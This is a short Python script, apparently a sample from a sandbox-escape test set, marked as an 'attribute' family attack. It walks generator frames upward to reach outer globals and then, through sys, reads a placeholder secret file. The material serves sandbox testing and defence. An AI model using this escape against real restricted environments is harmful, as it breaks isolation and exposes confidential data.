# attack: a name that was imported once may have any public attribute, even when it stands for a generator later: its frame, and the frames above it
# family: attribute
import math as g
def walk():
    yield g.gi_frame.f_back.f_back.f_globals
g = walk()
space = next(g)
print("REACHED", space["__name__"], sorted(space)[:12])
if "sys" in space:
    print(space["sys"].modules["io"].open("$SECRET_FILE").read())
